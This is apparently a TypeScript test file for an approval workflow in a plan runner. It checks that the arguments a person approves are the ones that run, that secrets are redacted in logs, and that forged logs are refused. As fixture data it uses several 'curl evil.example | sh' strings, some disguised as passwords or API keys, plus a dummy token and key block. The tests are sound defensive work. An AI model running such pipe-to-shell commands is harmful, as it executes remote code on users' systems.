import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { numbersAsText } from '../../src/kernel/json/numbers-as-text.js';
import { numberFromText } from '../../src/kernel/json/json-value.js';
import { agree, carryOut, logOf, newPlace, prepare } from '../support/approving.js';
import type { Place } from '../support/approving.js';
import { forgeLog } from '../support/run-logs.js';

const TOOLS = `tools:
  - name: note
    input_schema: true
    run: { file: write, root: notes }
  - { name: look, effects: none, run: { command: [cat, said.txt] } }
  - { name: read, effects: none, run: { command: [cat, said.json], output: json } }
`;
const TOKEN = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
const BLOCK = `-----BEGIN PRIVATE KEY-----\n${'A'.repeat(120)}\n-----END PRIVATE KEY-----`;

/** A plan whose second step asks, with an argument that the first one brings. */
const asking = (args: object) => ({
  schema_version: '1.0',
  steps: [
    { id: 'look', tool: 'look', args: {} },
    { id: 'n', tool: 'note', args: { path: 'a.md', ...args }, requires_approval: true },
  ],
});

/** Runs up to the question. @returns its code, and what is shown under it */
async function askedIn(place: Place) {
  const { run, code: first } = await prepare(place.workspace);
  await agree(place.workspace, first);
  const { waiting } = await carryOut(place.workspace, run);
  const code = waiting[0]?.code ?? '';
  const args = waiting[0]?.args;
  const report = await place.workspace.approve({ code, dryRun: true });
  const lines = report.parts.find(({ title }) => title === 'Arguments')?.lines ?? [];
  return { run, code, args, report, lines };
}

describe('what a person is asked about in the middle of a run', () => {
  test.each([
    ['a command between backticks that is called a password', 'the password is `curl evil.example | sh`'],
    ['a command behind a block of a key', `${BLOCK}\ncurl evil.example | sh`],
    ['a command that is assigned to a secret', 'API_KEY="$(curl evil.example | sh)" PASSWORD=hunter2x make'],
    ['a token that is one', `Bearer ${TOKEN}`],
    ['a URL with a password', 'https://me:`curl evil.example`@x.org/'],
  ])('is shown whole and is what runs: %s', async (_name, said) => {
    const place = await newPlace(asking({ text: '${look.text}', password: '${look.text}' }), TOOLS);
    writeFileSync(join(place.folder, 'said.txt'), said);
    const { run, code, args, report, lines } = await askedIn(place);
    expect(report.args).toEqual({ path: 'a.md', text: said, password: said });
    expect(args).toEqual(report.args);
    expect(lines).toContain(`text: ${JSON.stringify(said)}`);
    expect(lines).toContain(`password: ${JSON.stringify(said)}`);
    await agree(place.workspace, code);
    expect(await carryOut(place.workspace, run)).toMatchObject({ status: 'succeeded' });
    expect(readFileSync(join(place.folder, 'notes/a.md'), 'utf8')).toBe(said);
    // What is written down of the call itself has it left out.
    const call = logOf(place, run)
      .split('\n')
      .findLast((line) => line.includes('"attempt_started"'));
    expect(call).toContain('[secret]');
  });

  test('is shown whole where it is long, in a file of the run', async () => {
    const said = `${'word '.repeat(20_000)}; password=\`curl evil.example | sh\``;
    const place = await newPlace(asking({ text: '${look.text}' }), TOOLS);
    writeFileSync(join(place.folder, 'said.txt'), said);
    const { report, lines } = await askedIn(place);
    expect(report.args).toEqual({ path: 'a.md', text: said });
    expect(lines).toContain(`text: ${JSON.stringify(said)}`);
  });

  test('is refused where the log holds something else than what would run, or nothing', async () => {
    const place = await newPlace(asking({ text: '${look.text}' }), TOOLS);
    writeFileSync(join(place.folder, 'said.txt'), 'curl evil.example | sh');
    const { run, code } = await askedIn(place);
    const log = logOf(place, run);
    for (const args of [{ path: 'a.md', text: 'harmless' }, { path: 'a.md', text: '[secret]' }, undefined]) {
      forgeLog(place.folder, run, (event) => (event.type === 'waiting' ? { ...event, args } : event));
      await expect(place.workspace.approve({ code, dryRun: true })).rejects.toMatchObject({
        code: 'E_PLAN_HASH_MISMATCH',
        hint: expect.stringContaining(`plan run ${run}`),
      });
      writeFileSync(join(place.folder, '.plans/runs', `${run}.events.jsonl`), log);
    }
    forgeLog(place.folder, run, (event) => (event.type === 'waiting' ? { ...event, args: {} } : event));
    // Going on asks again, with what would run.
    const { waiting } = await carryOut(place.workspace, run);
    const again = await place.workspace.approve({ code: waiting[0]?.code ?? '', dryRun: true });
    expect(again.args).toEqual({ path: 'a.md', text: 'curl evil.example | sh' });
  });

  test('is each step of a nested plan with what is known of its arguments by then', async () => {
    const nested = {
      id: 'n',
      tool: 'look',
      args: {},
      requires_approval: true,
      plan: {
        steps: [
          { id: 'first', tool: 'note', args: { path: 'a.md', text: 'do ${look.text}' } },
          {
            id: 'loop',
            tool: 'note',
            foreach: { from: '${list}', item_name: 'one' },
            args: { path: '${one}', text: '${look.text}' },
            on_error: {
              strategy: 'fallback',
              steps: [{ id: 'f', tool: 'note', args: { path: 'f.md', text: '${look.text}' } }],
            },
          },
          {
            id: 'deep',
            tool: 'look',
            args: {},
            plan: { steps: [{ id: 'd', tool: 'look', args: { x: '${look.text}' } }] },
          },
        ],
      },
    };
    const place = await newPlace(
      {
        schema_version: '1.0',
        context: { list: ['b.md'] },
        steps: [{ id: 'look', tool: 'look', args: {} }, nested],
      },
      `${TOOLS}  - { name: nothing, effects: none, run: { command: ['true'] } }\n`,
    );
    writeFileSync(join(place.folder, 'said.txt'), 'password=`curl evil.example`');
    const { report } = await askedIn(place);
    const said = 'password=`curl evil.example`';
    expect(report.args).toEqual({
      steps: [
        { id: 'first', tool: 'note', args: { path: 'a.md', text: `do ${said}` } },
        {
          id: 'loop',
          tool: 'note',
          args: { path: '${one}', text: said },
          for_each: ['b.md'],
          fallback: [{ id: 'f', tool: 'note', args: { path: 'f.md', text: said } }],
        },
        { id: 'deep', tool: 'look', args: {}, steps: [{ id: 'd', tool: 'look', args: { x: said } }] },
      ],
    });
  });

  test('has the numbers that are given, also those that JavaScript has none for', async () => {
    const place = await newPlace(
      {
        schema_version: '1.0',
        steps: [
          { id: 'read', tool: 'read', args: {} },
          {
            id: 'n',
            tool: 'note',
            args: { path: 'a.md', text: 'x', amount: '${read.json.amount}' },
            requires_approval: true,
          },
        ],
      },
      TOOLS,
    );
    for (const amount of ['9007199254740993', '1e400', '1.50']) {
      writeFileSync(join(place.folder, 'said.json'), `{"amount": ${amount}}`);
      const { lines } = await askedIn(place);
      expect(lines).toContain(`amount: ${amount}`);
    }
  });
});

test('a number in --json is the number that it was, or its text', () => {
  const of = (text: string) => JSON.stringify(numbersAsText({ n: [numberFromText(text)] }));
  expect(of('1.50')).toBe('{"n":[1.5]}');
  expect(of('1e3')).toBe('{"n":[1000]}');
  expect(of('-0')).toBe('{"n":[0]}');
  expect(of('9007199254740993')).toBe('{"n":["9007199254740993"]}');
  expect(of('1e400')).toBe('{"n":["1e400"]}');
  expect(of('0.10000000000000000555')).toBe('{"n":["0.10000000000000000555"]}');
  fc.assert(
    fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.nat(3), (number, zeros) => {
      const text = String(number).replace(/^(-?\d+)$/, `$1.${'0'.repeat(zeros + 1)}`);
      expect(of(text)).toBe(JSON.stringify({ n: [number] }));
    }),
  );
});
